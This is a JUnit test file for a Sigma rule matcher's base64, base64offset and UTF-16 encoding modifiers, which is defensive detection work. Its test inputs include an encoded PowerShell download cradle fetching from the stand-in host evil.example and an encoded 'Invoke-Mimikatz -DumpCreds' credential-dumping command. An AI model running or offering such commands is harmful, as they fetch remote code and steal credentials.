package org.dotlink.sigma.match;

import static org.dotlink.sigma.match.Events.ev;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;

/** base64, base64offset and the utf16 family in front of them. */
class EncodingModifierTest {

    private static boolean m(String key, Object value, String... event) {
        return FieldMatcher.compile(key, value).matches(ev(event));
    }

    private static String b64(String s, Charset cs) {
        return Base64.getEncoder().encodeToString(s.getBytes(cs));
    }

    @Test
    void base64EncodesTheWholeValue() {
        assertEquals("Y21k", b64("cmd", StandardCharsets.UTF_8));
        assertTrue(m("F|base64", "cmd", "F", "Y21k"));
        assertFalse(m("F|base64", "cmd", "F", "cmd"));
        assertFalse(m("F|base64", "cmd", "F", "Y21kIA=="), "plain base64 is whole-value equality");
        assertTrue(m("F|base64|contains", "cmd", "F", "xxY21kyy"));
    }

    @Test
    void base64offsetProducesTheThreeKnownVariants() {
        // the well-known example from the Sigma documentation: http://
        String key = "CommandLine|base64offset|contains";
        assertTrue(m(key, "http://", "CommandLine", "aHR0cDovL"));
        assertTrue(m(key, "http://", "CommandLine", "h0dHA6Ly"));
        assertTrue(m(key, "http://", "CommandLine", "odHRwOi8v"));
    }

    @Test
    void base64offsetFindsTheValueAtEveryByteOffset() {
        String key = "CommandLine|base64offset|contains";
        for (String prefix : new String[] {"", "a", "ab", "abc", "IEX (New-Object Net.WebClient).DownloadString('"}) {
            String encoded = b64(prefix + "http://evil.example/x", StandardCharsets.UTF_8);
            assertTrue(m(key, "http://", "CommandLine", "powershell -enc " + encoded), "prefix '" + prefix + "'");
        }
        String other = b64("ftp://evil.example/x and htp:/", StandardCharsets.UTF_8);
        assertFalse(m(key, "http://", "CommandLine", "powershell -enc " + other));
    }

    @Test
    void utf16leBase64offsetContainsFindsPowershellEncodedCommands() {
        String key = "CommandLine|utf16le|base64offset|contains";
        for (String prefix : new String[] {"", "x", "xy", "Invoke-Expression "}) {
            String encoded = b64(prefix + "Invoke-Mimikatz -DumpCreds", StandardCharsets.UTF_16LE);
            assertTrue(m(key, "Invoke-Mimikatz", "CommandLine", "powershell -e " + encoded), "prefix '" + prefix + "'");
        }
        String utf8 = b64("Invoke-Mimikatz -DumpCreds", StandardCharsets.UTF_8);
        assertFalse(m(key, "Invoke-Mimikatz", "CommandLine", "powershell -e " + utf8), "UTF-8 encoding must not match");
    }

    @Test
    void wideIsUtf16le() {
        assertEquals("YwBtAGQA", b64("cmd", StandardCharsets.UTF_16LE));
        assertTrue(m("F|wide|base64", "cmd", "F", "YwBtAGQA"));
        assertTrue(m("F|utf16le|base64", "cmd", "F", "YwBtAGQA"));
        assertFalse(m("F|wide|base64", "cmd", "F", "Y21k"));
    }

    @Test
    void utf16beEncodesBigEndian() {
        // 00 63 00 6d 00 64
        assertTrue(m("F|utf16be|base64", "cmd", "F", "AGMAbQBk"));
        assertFalse(m("F|utf16be|base64", "cmd", "F", "YwBtAGQA"));
    }

    @Test
    void utf16PrependsTheByteOrderMark() {
        // FF FE 63 00 6d 00 64 00
        assertEquals("//5jAG0AZAA=", Base64.getEncoder().encodeToString(
                new byte[] {(byte) 0xFF, (byte) 0xFE, 0x63, 0, 0x6d, 0, 0x64, 0}));
        assertTrue(m("F|utf16|base64", "cmd", "F", "//5jAG0AZAA="));
        assertFalse(m("F|utf16|base64", "cmd", "F", "YwBtAGQA"));
    }

    @Test
    void base64ResultIsMatchedCaseSensitivelyWithCased() {
        assertTrue(m("F|base64|cased", "cmd", "F", "Y21k"));
        assertFalse(m("F|base64|cased", "cmd", "F", "y21K"));
    }
}
